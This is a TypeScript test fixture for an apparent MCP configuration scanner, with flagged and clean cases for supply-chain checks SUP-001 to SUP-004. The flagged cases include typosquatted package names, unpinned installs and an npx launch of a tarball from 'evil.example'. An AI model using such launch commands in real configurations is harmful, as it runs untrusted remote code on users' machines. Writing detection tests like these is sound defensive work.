import { launch, type CheckCases } from '../builders.js';

export const supplyChain: Record<string, CheckCases> = {
  'SUP-001': {
    find: [
      launch('npx', ['-y', 'mcp-remote@0.1.15', 'https://mcp.example.com/sse']),
      launch('npx', ['-y', '@modelcontextprotocol/server-filesystem@2025.3.28', '/home/dev/project']),
    ],
    clean: [
      launch('npx', ['-y', 'mcp-remote@0.1.16', 'https://mcp.example.com/sse']),
      launch('npx', ['-y', '@modelcontextprotocol/server-filesystem@2025.7.1', '/home/dev/project']),
      launch('npx', ['-y', 'mcp-remote', 'https://mcp.example.com/sse']),
    ],
  },
  'SUP-002': {
    find: [
      launch('npx', ['-y', 'mcp-remote', 'https://mcp.example.com/sse']),
      launch('npx', ['-y', 'weather-mcp@latest']),
      launch('uvx', ['mcp-server-fetch']),
    ],
    clean: [
      launch('npx', ['-y', 'weather-mcp@1.2.0']),
      launch('uvx', ['mcp-server-fetch==2025.4.7']),
      launch('node', ['server.js']),
    ],
  },
  'SUP-003': {
    find: [
      launch('npx', ['-y', '@modelcontextprotocol/server-filesytem@1.0.0', '/tmp']),
      launch('npx', ['-y', 'mcp-remotes@1.0.0']),
      launch('npx', ['-y', 'server-filesystem@1.0.0']),
      launch('uvx', ['mcp-server-fecth']),
    ],
    clean: [
      launch('npx', ['-y', '@modelcontextprotocol/server-filesystem@2026.8.31', '/tmp']),
      launch('npx', ['-y', 'mcp-remote@0.1.16']),
      launch('npx', ['-y', 'weather-mcp@1.2.0']),
      launch('uvx', ['mcp-server-time']),
    ],
  },
  'SUP-004': {
    find: [
      launch('npx', ['-y', 'github:someone/mcp-server']),
      launch('npx', ['-y', 'https://evil.example/mcp.tgz']),
      launch('uvx', ['--from', 'git+https://github.com/someone/mcp', 'mcp']),
    ],
    clean: [
      launch('npx', ['-y', 'weather-mcp@1.2.0']),
      launch('uvx', ['--from', 'mcp-server-fetch==2025.4.7', 'mcp-server-fetch']),
    ],
  },
};
